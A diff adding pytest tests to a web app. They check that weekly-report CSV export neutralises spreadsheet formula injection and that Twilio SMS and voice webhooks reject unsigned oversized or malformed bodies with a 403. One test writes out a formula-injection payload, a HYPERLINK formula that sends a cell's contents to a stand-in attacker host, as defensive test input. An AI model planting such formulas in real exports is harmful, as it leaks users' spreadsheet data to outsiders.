@@ -198,3 +198,71 @@ def test_opening_hours_refuse_a_trailing_newline_in_a_time():
 
     with pytest.raises(ValueError):
         _parse_hhmm("09:00\n")
+
+
+# --- item 8: CSV cells are never formulas; Twilio's signature is checked first ----------------
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_report_csv_cells_never_start_a_formula(start):
+    import csv
+    import io
+
+    from chalicelib.channels.report_views import as_csv
+
+    evil = start + 'HYPERLINK("https://evil.example/?"&A1,"open")'
+    rows = list(csv.reader(io.StringIO(as_csv({"week": evil, evil: 3, "delta": -2}))))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + evil in cells
+    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
+    assert ["delta", "-2"] in rows  # numbers stay numbers
+
+
+def test_the_report_csv_route_neutralises_formulas(api, local_services):
+    week = "2026-W47"  # ended before the test clock's day: computed once, then stored
+    assert api.get(f"/reports/weekly/{week}", headers=MANAGER).status_code == 200
+    figures = local_services.store.get_report(week)
+    figures["practitioners"] = [{"id": "=1+1", "replies": "@SUM(A1)"}]
+    local_services.store.save_report(week, figures)
+    answer = api.get(f"/reports/weekly/{week}", headers={**MANAGER, "Accept": "text/csv"})
+    assert answer.status_code == 200, answer.body
+    text = answer.body.decode()
+    assert "'=1+1" in text and "'@SUM(A1)" in text
+
+
+VOICE = "/webhooks/twilio/voice"
+
+
+@pytest.mark.parametrize("path", [SMS, SMS + "/status", VOICE, VOICE + "/menu"])
+def test_an_unsigned_huge_twilio_body_is_a_403_not_a_413(api, local_services, path):
+    from urllib.parse import urlencode
+
+    body = urlencode(sms_form("+4520000001", "x" * 200_000))
+    for headers in ({}, {"X-Twilio-Signature": "bm9wZQ=="}):
+        answer = api.post(
+            path,
+            body=body,
+            headers={"Content-Type": "application/x-www-form-urlencoded", **headers},
+        )
+        assert answer.status_code == 403, answer.body
+        assert error_code(answer) == "bad_signature"
+
+
+@pytest.mark.parametrize("path", [SMS, VOICE])
+def test_an_unsigned_malformed_twilio_body_is_a_403_not_a_400(api, local_services, path):
+    for body in (b"\xff\xfe%%%=&&\x00", b"MessageSid=" + b"\xc3" * 10):
+        answer = api.post(
+            path,
+            body=body,
+            headers={
+                "Content-Type": "application/x-www-form-urlencoded",
+                "X-Twilio-Signature": "bm9wZQ==",
+            },
+        )
+        assert answer.status_code == 403, answer.body
+
+
+def test_a_signed_twilio_body_is_still_taken_and_a_signed_huge_one_is_a_413(api, local_services):
+    assert api.post(SMS, **signed(SMS, sms_form("+4520000001", "hi"))).status_code == 200
+    huge = api.post(SMS, **signed(SMS, sms_form("+4520000001", "x" * 70_000)))
+    assert huge.status_code == 413
